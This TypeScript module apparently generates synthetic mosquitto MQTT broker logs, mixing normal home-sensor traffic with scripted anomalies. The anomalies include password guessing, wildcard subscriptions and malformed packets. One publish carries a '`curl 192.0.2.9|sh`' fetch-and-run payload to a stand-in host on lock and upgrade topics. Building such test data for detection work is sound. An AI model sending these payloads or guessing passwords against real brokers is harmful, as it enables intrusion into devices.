/**
 * mosquitto 2.0 of Debian (EPL-2.0): a broker that sensors, switches and a recorder use. It is restarted once, and meters join late, which is no harm.
 * Harm is guessed passwords, clients that nobody knows, subscriptions to everything, broken packets.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { answering, freePort, Log, program, ran, sent } from "./recorder.ts";

/** Lines of any client. */
const USUAL =
  /: (?:New connection from|No will message|Sending CONNACK to \S+ \(0, 0\)|Received DISCONNECT|Client \S+ disconnected\.)/;
const ROOMS = ["kitchen", "cellar", "attic", "garage", "bath", "hall"];
const SENSORS = ["temperature", "humidity", "co2", "door"];

/** About `lines` lines of a broker's log. */
export async function recordMosquitto(folder: string, random: () => number, lines: number): Promise<Log> {
  const draw = (most: number) => Math.floor(random() * most);
  const one = <T>(all: readonly T[]) => all[draw(all.length)]!;
  const port = await freePort();
  const libraries = ["libwebsockets17", "libdlt2", "libwrap0", "libmosquitto1"];
  const broker = program("mosquitto", "usr/sbin/mosquitto", libraries);
  const publisher = program("mosquitto-clients", "usr/bin/mosquitto_pub", libraries);
  const subscriber = program("mosquitto-clients", "usr/bin/mosquitto_sub", libraries);
  const words = join(folder, "words");
  writeFileSync(words, "sensor:cold\nswitch:warm\nrecorder:long\n", { mode: 0o600 });
  await ran(program("mosquitto", "usr/bin/mosquitto_passwd"), ["-U", words]);
  writeFileSync(
    join(folder, "conf"),
    `listener ${port} 127.0.0.1\nallow_anonymous false\npassword_file ${words}\nuser root\nlog_dest stderr\nlog_type all
log_timestamp_format %Y-%m-%dT%H:%M:%S\npersistence true\npersistence_location ${folder}/\nautosave_interval 20\n`,
  );
  const log = new Log(folder, USUAL);
  const start = async () => {
    log.start(broker, ["-c", join(folder, "conf")]);
    await answering(port);
  };
  await start();
  let meters = false;
  const at = ["-h", "127.0.0.1", "-p", String(port)];
  const publish = (user: string, word: string, id: string, topic: string, ...more: string[]) =>
    ran(publisher, [...at, "-u", user, "-P", word, "-i", id, "-t", topic, ...more]);
  const measure = () => {
    const room = one(ROOMS);
    const sensor = meters && random() < 0.2 ? "power" : one(SENSORS);
    const id = `${room}-${sensor}-${10 + ((room.length * sensor.length) % 80)}`;
    const quality = sensor === "door" ? ["-q", "1", "-r"] : ["-q", "0"];
    return publish("sensor", "cold", id, `house/${room}/${sensor}`, "-m", `${10 + draw(300) / 10}`, ...quality);
  };
  const record = () =>
    ran(subscriber, [
      ...at,
      "-u",
      "recorder",
      "-P",
      "long",
      "-i",
      "recorder",
      "-q",
      "1",
      "-t",
      `house/${one(ROOMS)}/#`,
      "-C",
      "1",
      "-W",
      "1",
    ]);
  const harms = [
    async () => {
      for (let left = 3 + draw(6); left > 0; --left) {
        await publish(one(["admin", "root", "sensor", "mqtt"]), String(draw(1e6)), `x${draw(1e4)}`, "test", "-m", "1");
      }
    },
    () =>
      ran(subscriber, [
        ...at,
        "-u",
        "sensor",
        "-P",
        "cold",
        "-i",
        `mqtt-explorer-${draw(1e8).toString(16)}`,
        "-t",
        one(["#", "$SYS/#"]),
        "-W",
        "1",
      ]),
    () =>
      sent(
        port,
        one([
          "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
          "\x10\x0c\x00\x04MQTX\x04\x02\x00\x3c\x00\x00",
          "\xff\xff\xff\xff\xff\xff",
        ]),
      ),
    () =>
      publish(
        "switch",
        "warm",
        `shell-${draw(1e5)}`,
        one(["house/door/lock/set", "cmnd/all/Upgrade"]),
        "-m",
        "`curl 192.0.2.9|sh`",
      ),
  ];
  let [restarted, next] = [false, lines * 0.22];
  for (let count = 0; count < lines; count = log.lines) {
    for (let left = 3; left > 0; --left) await measure();
    if (random() < 0.1)
      await publish(
        "switch",
        "warm",
        "wall-switch",
        `house/${one(ROOMS)}/light/set`,
        "-m",
        one(["on", "off"]),
        "-q",
        "2",
      );
    if (random() < 0.04) await record();
    if (count > next) {
      next = count + lines * 0.07 * (0.5 + random());
      await log.harm(one(harms));
    }
    if (!restarted && count > lines * 0.5) {
      await log.stop();
      await start();
      [restarted, meters] = [true, true];
    }
  }
  await log.stop();
  return log;
}
